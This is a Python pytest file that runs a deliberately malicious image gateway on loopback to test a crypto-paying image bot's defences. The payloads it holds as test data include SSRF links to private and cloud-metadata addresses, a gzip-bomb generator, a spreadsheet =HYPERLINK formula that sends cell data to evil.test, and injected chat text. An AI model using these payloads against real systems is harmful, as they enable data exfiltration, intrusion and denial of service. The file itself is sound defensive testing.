"""A gateway that misbehaves on purpose: every answer it sends is bounded, checked or refused.

Each test runs a malicious gateway on loopback against the real ImageService and X402Payer
(or the whole bot through ``open_bot`` when what the user reads matters).
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import itertools
import json
import sys
import tracemalloc
import zlib
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiohttp import web
from imagebot_cli import cli_env, imagebot
from local import serving
from pictures import png
from test_images import REQUIREMENT, bomb_png, quoting, run, service_for
from test_service import ALICE, RecordingChat

from bot.chains import BASE, BASE_SEPOLIA, gateway_chain
from bot.config import load_settings
from bot.errors import ConfigError, ImagebotError, PaymentRefused
from bot.fetching import MAX_ANSWER_BYTES, MAX_SMALL_BODY_BYTES
from bot.http import gateway_client
from bot.images import REVISED_PROMPT_CHARS, BadReply, ImageService, JobAbandoned
from bot.ledger import SqliteLedger
from bot.service import Outcome
from bot.x402 import Wallet, X402Payer
from imagebot.wiring import open_bot
from sandbox import Sandbox

GENERATIONS = "/v1/images/generations"
NANO_BANANA_MICRO = 52_500  # the catalog's estimate of "/imagegen a fox"
MiB = 1024 * 1024


@pytest.fixture
async def http() -> AsyncIterator[httpx.AsyncClient]:
    async with gateway_client() as client:
        yield client


def data_uri(picture: bytes) -> str:
    return "data:image/png;base64," + base64.b64encode(picture).decode()


def paid_answer(body: dict[str, Any]) -> Callable[[], web.Response]:
    return lambda: web.json_response(body)


# 1. image links to loopback, private, link-local and metadata addresses


@pytest.fixture
async def secret() -> AsyncIterator[tuple[str, list]]:
    """A server on loopback, on another origin than the gateway: it must never be asked."""
    hits: list[str] = []

    async def leak(request: web.Request) -> web.Response:
        hits.append(request.path)
        return web.Response(body=png(), content_type="image/png")

    async with serving(("GET", "/{tail:.*}", leak)) as url:
        yield url.removeprefix("http://"), hits


@pytest.mark.parametrize(
    "link",
    [
        "http://{secret}/a.png",
        "http://localhost:{port}/a.png",
        "http://[::ffff:127.0.0.1]:{port}/a.png",
        "http://169.254.169.254/latest/meta-data/iam",
        "http://10.1.2.3/a.png",
        "http://192.168.0.1/a.png",
        "http://[fe80::1]/a.png",
        "http://0.0.0.0:{port}/a.png",
    ],
)
async def test_an_image_link_to_a_private_address_is_never_fetched(
    http: httpx.AsyncClient, secret: tuple[str, list], link: str
) -> None:
    address, hits = secret
    url = link.format(secret=address, port=address.rpartition(":")[2])
    route = ("POST", GENERATIONS, quoting(paid_answer({"data": [{"url": url}]})))
    async with serving(route) as gateway:
        with pytest.raises(BadReply) as caught:
            await asyncio.wait_for(run(service_for(http, gateway), "/imagegen a fox"), 5)
    assert hits == []
    assert caught.value.charged is True
    assert caught.value.user_message == (
        "The image service gave an image link to a private address; $0.0525 was charged for it."
    )


async def test_links_on_the_gateways_own_origin_work_and_redirects_are_not_followed(
    http: httpx.AsyncClient, unused_tcp_port: int, secret: tuple[str, list]
) -> None:
    address, hits = secret
    links = {"own": "/files/a.png", "away": "/files/away.png"}

    async def files(request: web.Request) -> web.StreamResponse:
        if request.path.endswith("away.png"):
            raise web.HTTPFound(f"http://{address}/a.png")
        return web.Response(body=png(), content_type="image/png")

    def answer(which: str) -> Callable[[], web.Response]:
        return lambda: web.json_response({"data": [{"url": gateway + links[which]}]})

    gateway = f"http://127.0.0.1:{unused_tcp_port}"
    async with serving(
        ("POST", GENERATIONS, quoting(answer("own"))),
        ("POST", "/v1/images/image2image", quoting(answer("away"))),
        ("GET", "/files/{name}", files),
        port=unused_tcp_port,
    ):
        result = await run(service_for(http, gateway), "/imagegen a fox")
        with pytest.raises(BadReply) as caught:
            await run(service_for(http, gateway), "/img2img -m nano-banana hat", png())
    assert len(result.pictures) == 1
    assert caught.value.charged is True and "does not work" in caught.value.user_message
    assert hits == []


# 2. more pictures than asked for


async def test_a_reply_with_200_pictures_for_n_1_yields_one_and_fetches_one(
    http: httpx.AsyncClient, unused_tcp_port: int
) -> None:
    fetched: list[str] = []

    async def picture(request: web.Request) -> web.Response:
        fetched.append(request.path)
        return web.Response(body=png(), content_type="image/png")

    gateway = f"http://127.0.0.1:{unused_tcp_port}"
    links = [{"url": f"{gateway}/p/{i}.png"} for i in range(200)]
    async with serving(
        ("POST", GENERATIONS, quoting(paid_answer({"data": links}))),
        ("GET", "/p/{name}", picture),
        port=unused_tcp_port,
    ):
        result = await run(service_for(http, gateway), "/imagegen a fox")
    assert len(result.pictures) == 1 and len(fetched) == 1


# 3. decompression bombs


@pytest.fixture(scope="module")
def gzip_bomb() -> bytes:
    """About 1 MB of gzip that inflates to 1 GiB of spaces (valid JSON whitespace)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b" " * MiB
    return b"".join(packer.compress(block) for _ in range(1024)) + packer.flush()


def bomb_response(bomb: bytes, status: int) -> web.Response:
    headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
    return web.Response(body=bomb, status=status, headers=headers)


async def peak_while(work: Any) -> tuple[int, BaseException | None]:
    """The peak traced allocation while ``work`` runs, and what it raised."""
    tracemalloc.start()
    try:
        await work
        raised = None
    except BaseException as error:
        raised = error
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak, raised


async def test_a_gzip_bomb_as_the_paid_answer_is_cut_off_at_the_paid_cap(
    http: httpx.AsyncClient, gzip_bomb: bytes
) -> None:
    assert len(gzip_bomb) < 2 * MiB
    route = ("POST", GENERATIONS, quoting(lambda: bomb_response(gzip_bomb, 200)))
    async with serving(route) as url:
        peak, raised = await peak_while(run(service_for(http, url), "/imagegen a fox"))
    assert peak < MAX_ANSWER_BYTES + 64 * MiB  # ~330 MiB, not the 1 GiB it inflates to
    assert isinstance(raised, BadReply) and raised.charged is True
    assert raised.user_message == (
        "The image service sent a reply too large to read. It was charged; an admin can check "
        "/spend."
    )


async def test_a_compressed_answer_is_read_in_small_pieces_a_plain_one_in_big_ones(
    http: httpx.AsyncClient,
) -> None:
    """One piece of a compressed answer never inflates past 16 KiB x deflate's ~1000:1."""
    body = b"x" * (2 * MiB)

    async def plain(_: web.Request) -> web.Response:
        return web.Response(body=body)

    async def gzipped(_: web.Request) -> web.Response:
        return web.Response(body=gzip.compress(body), headers={"Content-Encoding": "gzip"})

    routes = (("GET", "/plain", plain), ("GET", "/gzip", gzipped))
    async with serving(*routes) as url:
        pieces = {}
        for path in ("/plain", "/gzip"):
            async with http.stream("GET", url + path) as answer:
                pieces[path] = [len(piece) async for piece in answer.aiter_raw()]
    assert max(pieces["/gzip"]) <= 16 * 1024
    assert max(pieces["/plain"]) > 16 * 1024 and sum(pieces["/plain"]) == len(body)


@pytest.mark.parametrize("where", ["402", "paid error"])
async def test_a_gzip_bomb_as_a_quote_or_an_error_is_cut_off_far_sooner(
    http: httpx.AsyncClient, gzip_bomb: bytes, where: str
) -> None:
    async def unpaid_quote(request: web.Request) -> web.StreamResponse:
        if where == "paid error" and "PAYMENT-SIGNATURE" not in request.headers:
            return web.json_response({"x402Version": 2, "accepts": [REQUIREMENT]}, status=402)
        return bomb_response(gzip_bomb, 402 if where == "402" else 500)

    async with serving(("POST", GENERATIONS, unpaid_quote)) as url:
        peak, raised = await peak_while(run(service_for(http, url), "/imagegen a fox"))
    assert MAX_SMALL_BODY_BYTES == 64 * 1024
    # The cap plus one 16 KiB read inflated (up to 16 MiB, a few copies while decoding): not 1 GiB.
    assert peak < 64 * MiB
    assert isinstance(raised, ImagebotError) and raised.charged is False
    charge = "Nothing was charged." if where == "402" else "It reported no charge."
    assert charge in raised.user_message


@pytest.mark.parametrize("where", ["402", "paid error", "paid answer"])
async def test_json_nested_past_the_c_stack_is_a_clear_message_not_a_crash(
    http: httpx.AsyncClient, where: str
) -> None:
    """eth-account (py_ecc) raises Python's recursion limit, so json's C parser alone would
    recurse through a body of '[' (a quote or error at its 64 KiB cap, or a bigger paid answer)
    until the C stack overflows and the process dies rather than raise."""
    assert sys.getrecursionlimit() >= 100_000
    status = {"402": 402, "paid error": 500, "paid answer": 200}[where]
    depth = 200_000 if where == "paid answer" else MAX_SMALL_BODY_BYTES

    def deep() -> web.Response:
        return web.Response(body=b"[" * depth, status=status, content_type="application/json")

    async def unpaid(request: web.Request) -> web.Response:
        return deep()

    route = unpaid if where == "402" else quoting(deep)
    async with serving(("POST", GENERATIONS, route)) as url:
        with pytest.raises(ImagebotError) as raised:
            await run(service_for(http, url), "/imagegen a fox")
    assert raised.value.user_message


# 4. answers that never finish


async def drip(request: web.Request) -> web.StreamResponse:
    """Headers at once, then one byte of body every 0.2 s, forever."""
    response = web.StreamResponse(headers={"Content-Type": "application/json"})
    await response.prepare(request)
    while True:
        await response.write(b" ")
        await asyncio.sleep(0.2)


async def test_a_paid_answer_that_never_finishes_ends_with_outcome_unknown_in_the_chat(
    tmp_path: Path,
) -> None:
    async def paid(request: web.Request) -> web.StreamResponse:
        if "PAYMENT-SIGNATURE" not in request.headers:
            return web.json_response({"x402Version": 2, "accepts": [REQUIREMENT]}, status=402)
        return await drip(request)

    database = tmp_path / "l.sqlite3"
    chat = RecordingChat()
    async with serving(("POST", GENERATIONS, paid)) as url:
        settings = load_settings(_env_file=None, image_api_url=url, database_path=database)
        async with open_bot(settings, Wallet.create(), exchange_deadline=0.5) as bot:
            outcome = await asyncio.wait_for(bot.handle(ALICE, chat, "/imagegen a fox"), 10)
    assert outcome is Outcome.REFUSED
    assert chat.texts == [
        "The image service did not finish answering in time after the payment was sent; the "
        "charge may or may not have gone through. An admin can check /spend."
    ]
    async with await SqliteLedger.open(database) as ledger:
        (payment,) = await ledger.payments()
    assert payment.status == "unknown"


async def test_a_picture_download_or_a_poll_that_never_finishes_is_given_up(
    http: httpx.AsyncClient, unused_tcp_port: int
) -> None:
    gateway = f"http://127.0.0.1:{unused_tcp_port}"

    def job() -> web.Response:
        return web.json_response({"status": "queued", "poll_url": "/jobs/j"}, status=202)

    async with serving(
        ("POST", GENERATIONS, quoting(paid_answer({"data": [{"url": f"{gateway}/p.png"}]}))),
        ("POST", "/v1/images/image2image", quoting(job)),
        ("GET", "/p.png", drip),
        ("GET", "/jobs/j", drip),
        port=unused_tcp_port,
    ):
        payer = X402Payer(http, Wallet.create(), max_micro=500_000)
        service = ImageService(
            http,
            payer,
            gateway,
            poll_interval=0.05,
            job_deadline=1.0,
            poll_deadline=0.3,
            download_deadline=0.5,
        )
        with pytest.raises(BadReply) as download:
            await asyncio.wait_for(run(service, "/imagegen a fox"), 10)
        with pytest.raises(JobAbandoned) as poll:
            await asyncio.wait_for(run(service, "/img2img -m nano-banana hat", png()), 10)
    assert download.value.charged is True
    assert download.value.user_message == (
        "The image service sent an image that did not finish downloading in time; $0.0525 was "
        "charged for it."
    )
    assert poll.value.charged is False and "stopped waiting" in poll.value.user_message


# 5. a gigapixel picture, a payment that is not an object, an oversized header


@pytest.mark.parametrize("side", [50_000, 9_000])
async def test_a_picture_over_the_pixel_limit_is_one_clear_charged_message(
    http: httpx.AsyncClient, side: int
) -> None:
    answer = paid_answer({"data": [{"url": data_uri(bomb_png(side, side))}]})
    async with serving(("POST", GENERATIONS, quoting(answer))) as url:
        with pytest.raises(BadReply) as caught:
            await run(service_for(http, url), "/imagegen a fox")
    assert caught.value.charged is True
    assert caught.value.user_message == (
        "The image service sent an image too large to open; $0.0525 was charged for it."
    )


@pytest.mark.parametrize(
    "oddity",
    [
        {"payment": "settled"},
        {"payment": {"tx_hash": {"x": 1}}},
        {"price": "1000.00"},
        {"data": [{"url": data_uri(png()), "revised_prompt": {"x": 1}}]},
    ],
)
async def test_fields_of_the_wrong_type_never_break_the_bot(
    tmp_path: Path, oddity: dict[str, Any]
) -> None:
    body = {"data": [{"url": data_uri(png())}]} | oddity
    caption = await delivered_caption(paid_answer(body), tmp_path / "l")
    assert caption == "nano-banana · 1024x1024 · $0.0525"


async def delivered_caption(answer: Callable[[], web.Response], database: Path) -> str:
    """The caption of the one picture the bot delivers for ``/imagegen a fox`` when the gateway
    answers the paid request with ``answer()``."""
    chat = RecordingChat()
    async with serving(("POST", GENERATIONS, quoting(answer))) as url:
        settings = load_settings(_env_file=None, image_api_url=url, database_path=database)
        async with open_bot(settings, Wallet.create()) as bot:
            outcome = await bot.handle(ALICE, chat, "/imagegen a fox")
    assert (outcome, chat.texts) == (Outcome.DONE, [])
    ((_, caption),) = chat.pictures
    return caption


async def test_an_oversized_header_on_the_paid_answer_is_one_clear_message(
    http: httpx.AsyncClient,
) -> None:
    def answer() -> web.Response:
        body = {"data": [{"url": data_uri(png())}]}
        return web.json_response(body, headers={"X-Padding": "x" * 20_000})

    async with serving(("POST", GENERATIONS, quoting(answer))) as url:
        with pytest.raises(ImagebotError) as caught:
            await run(service_for(http, url), "/imagegen a fox")
    assert caught.value.charged is None
    assert "may or may not have gone through" in caught.value.user_message


async def test_cookies_the_gateway_sets_are_neither_kept_nor_sent_back(
    http: httpx.AsyncClient,
) -> None:
    """A jar would grow by every cookie a hostile gateway sets, on every answer."""
    cookies_sent: list[str | None] = []
    served = itertools.count()
    quote = quoting(paid_answer({"data": [{"url": data_uri(png())}]}))

    async def setting_cookies(request: web.Request) -> web.StreamResponse:
        cookies_sent.append(request.headers.get("Cookie"))
        answer = await quote(request)
        for _ in range(50):
            answer.set_cookie(f"c{next(served)}", "x" * 1000, max_age=3600)
        return answer

    async with serving(("POST", GENERATIONS, setting_cookies)) as url:
        named = url.replace("127.0.0.1", "localhost")  # cookie jars refuse cookies of IPs
        for _ in range(3):
            await run(service_for(http, named), "/imagegen a fox")
    assert next(served) == 300  # 3 quotes and 3 paid answers, 50 cookies each
    assert len(http.cookies) == 0 and cookies_sent == [None] * 6


# 6. a price the bot never agreed to


@pytest.mark.parametrize(
    ("price", "charged"),
    [
        ({"amount": "1000.00"}, NANO_BANANA_MICRO),
        ("1000.00", NANO_BANANA_MICRO),
        ({"amount": "0.01"}, 10_000),
    ],
)
async def test_an_answer_without_a_402_is_charged_at_most_the_catalog_estimate(
    http: httpx.AsyncClient, price: Any, charged: int
) -> None:
    async def free(_: web.Request) -> web.Response:
        return web.json_response({"data": [{"url": data_uri(png())}], "price": price})

    async with serving(("POST", GENERATIONS, free)) as url:
        result = await run(service_for(http, url), "/imagegen a fox")
    assert result.charged_micro == charged


# 7. the network is pinned


def test_the_network_is_implied_by_the_gateway_address_and_can_be_set() -> None:
    assert gateway_chain("https://blockrun.ai/api") is BASE
    assert gateway_chain("https://testnet.blockrun.ai/api") is BASE_SEPOLIA
    assert gateway_chain("http://127.0.0.1:8402") is BASE_SEPOLIA
    assert gateway_chain("http://localhost:8402") is BASE_SEPOLIA
    assert gateway_chain("http://[::1]:8402") is BASE_SEPOLIA
    settings = load_settings(_env_file=None, image_api_url="https://testnet.blockrun.ai/api")
    assert settings.payment_chain is BASE_SEPOLIA
    for name, chain in [("base", BASE), ("eip155:8453", BASE), ("eip155:84532", BASE_SEPOLIA)]:
        assert load_settings(_env_file=None, payment_network=name).payment_chain is chain
    with pytest.raises(ConfigError) as caught:
        load_settings(_env_file=None, payment_network="eip155:1")
    assert str(caught.value).startswith("PAYMENT_NETWORK: ")


def offers(*networks: tuple[Any, str]) -> list[dict[str, Any]]:
    return [
        REQUIREMENT | {"network": chain.caip2, "asset": chain.usdc, "amount": amount}
        for chain, amount in networks
    ]


async def test_a_testnet_gateway_offering_mainnet_cheaper_is_paid_on_its_testnet(
    http: httpx.AsyncClient,
) -> None:
    signed: list[str] = []

    async def route(request: web.Request) -> web.Response:
        header = request.headers.get("PAYMENT-SIGNATURE")
        if header is None:
            accepts = offers((BASE_SEPOLIA, "52500"), (BASE, "52499"))
            return web.json_response({"x402Version": 2, "accepts": accepts}, status=402)
        signed.append(json.loads(base64.b64decode(header))["accepted"]["network"])
        return web.json_response({"data": [{"url": data_uri(png())}]})

    async with serving(("POST", GENERATIONS, route)) as url:
        result = await run(service_for(http, url), "/imagegen a fox")
    assert signed == [BASE_SEPOLIA.caip2] and result.charged_micro == 52_500


@pytest.mark.parametrize("pinned", [None, BASE_SEPOLIA])
async def test_quotes_only_on_another_network_are_refused_before_signing(
    http: httpx.AsyncClient, pinned: Any
) -> None:
    paid: list[str] = []

    async def route(request: web.Request) -> web.Response:
        if "PAYMENT-SIGNATURE" in request.headers:
            paid.append(request.headers["PAYMENT-SIGNATURE"])
            return web.json_response({"data": [{"url": data_uri(png())}]})
        accepts = offers((BASE, "52500"))
        return web.json_response({"x402Version": 2, "accepts": accepts}, status=402)

    async with serving(("POST", GENERATIONS, route)) as url:
        payer = X402Payer(http, Wallet.create(), max_micro=500_000)
        service = ImageService(http, payer, url, network=pinned)
        with pytest.raises(PaymentRefused) as caught:
            await run(service, "/imagegen a fox")
        mainnet = ImageService(http, payer, url, network=BASE)
        assert (await run(mainnet, "/imagegen a fox")).charged_micro == 52_500
    assert len(paid) == 1
    assert caught.value.charged is False
    assert caught.value.user_message == (
        "The image service asked for payment on eip155:8453, but this bot pays only on "
        "eip155:84532 (base-sepolia) here. Nothing was charged."
    )


# 8. gateway words reach the chat as plain words


HOSTILE = (
    "Bad prompt! See https://evil.example/claim?x=1 and www.evil.example now @everyone @here "
    "<@123456> <#987> <@&42> **free** `USDC` [click](http://x.y) \x1b[31m\u202e" + "z" * 500
)


@pytest.mark.parametrize("where", ["400", "failed job", "402 poll"])
async def test_gateway_error_text_reaches_the_chat_as_a_short_plain_reason(
    tmp_path: Path, where: str
) -> None:
    def answer() -> web.Response:
        if where == "400":
            return web.json_response({"error": {"message": HOSTILE}}, status=400)
        return web.json_response({"status": "queued", "poll_url": "/jobs/j"}, status=202)

    async def poll(_: web.Request) -> web.Response:
        if where == "failed job":
            return web.json_response({"status": "failed", "error": HOSTILE})
        return web.json_response({"error": "x", "details": HOSTILE}, status=402)

    chat = RecordingChat()
    async with serving(
        ("POST", GENERATIONS, quoting(answer)),
        ("GET", "/jobs/j", poll),
    ) as url:
        settings = load_settings(_env_file=None, image_api_url=url, database_path=tmp_path / "l")
        async with open_bot(settings, Wallet.create(), poll_interval=0.05) as bot:
            await bot.handle(ALICE, chat, "/imagegen a fox")
    (text,) = chat.texts
    assert "Bad prompt! See and now" in text
    for banned in ("http", "www.", "evil", "@", "<", "#", "*", "`", "[", "\x1b", "\u202e"):
        assert banned not in text
    assert "zzz" in text and "z" * 200 not in text


async def test_payment_network_setting_reaches_the_running_bot(tmp_path: Path) -> None:
    """The sandbox on loopback quotes Base Sepolia; PAYMENT_NETWORK=base refuses to pay it."""
    gateway = Sandbox()
    await gateway.start()
    chat = RecordingChat()
    try:
        for network, outcome in (("base", Outcome.REFUSED), ("base-sepolia", Outcome.DONE)):
            settings = load_settings(
                _env_file=None,
                image_api_url=gateway.url,
                database_path=tmp_path / f"{network}.sqlite3",
                payment_network=network,
            )
            async with open_bot(settings, Wallet.create()) as bot:
                assert await bot.handle(ALICE, chat, "/imagegen a fox") is outcome
    finally:
        await gateway.close()
    assert chat.texts[0].startswith("The image service asked for payment on ")
    assert "Nothing was charged." in chat.texts[0]
    assert gateway.payments_received == 1  # only the run on the implied network paid


FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'


@pytest.mark.parametrize(
    "receipt",
    [
        {"body": {"payment": {"status": "settled", "tx_hash": FORMULA}}},
        {"headers": {"X-Payment-Receipt": FORMULA}},
        {
            "headers": {
                "PAYMENT-RESPONSE": base64.b64encode(
                    json.dumps({"success": True, "transaction": FORMULA}).encode()
                ).decode()
            }
        },
    ],
    ids=["body", "x-payment-receipt", "payment-response"],
)
async def test_a_transaction_hash_that_is_not_one_never_reaches_the_ledger_or_its_csv(
    tmp_path: Path, receipt: dict[str, Any]
) -> None:
    """A spreadsheet formula for a tx hash: the picture is settled and delivered, and the row
    has no hash, so ``imagebot spend --csv`` hands no formula to a spreadsheet."""
    body = {"data": [{"url": data_uri(png())}]} | receipt.get("body", {})

    def answer() -> web.Response:
        return web.json_response(body, headers=receipt.get("headers", {}))

    database = tmp_path / "l.sqlite3"
    await delivered_caption(answer, database)
    env = cli_env("http://127.0.0.1:9", database)
    code, csv_text = await imagebot("spend", "--csv", env=env, cwd=tmp_path)

    assert code == 0
    (row,) = csv_text.splitlines()[1:]
    assert row.endswith(",0.052500,")
    assert "HYPERLINK" not in csv_text


async def test_a_revised_prompt_reaches_the_caption_as_plain_text(tmp_path: Path) -> None:
    """A gateway's revised prompt carrying a link, pings, markup, a direction override and
    too much text: the caption keeps the words, plain and bounded."""
    revised = (
        "A red fox in the snow. Claim your refund at https://evil.test/claim or www.evil.test "
        "@everyone <@&123> **now**\u202e" + " and more" * 500
    )
    body = {"data": [{"url": data_uri(png()), "revised_prompt": revised}]}
    caption = await delivered_caption(paid_answer(body), tmp_path / "l")

    price, shown = caption.split("\n", 1)
    assert price == "nano-banana · 1024x1024 · $0.0525"
    assert shown.startswith("A red fox in the snow. Claim your refund at")
    for injected in ("evil", "https", "@everyone", "<@&", "**", "\u202e"):
        assert injected not in shown
    assert len(shown) <= REVISED_PROMPT_CHARS
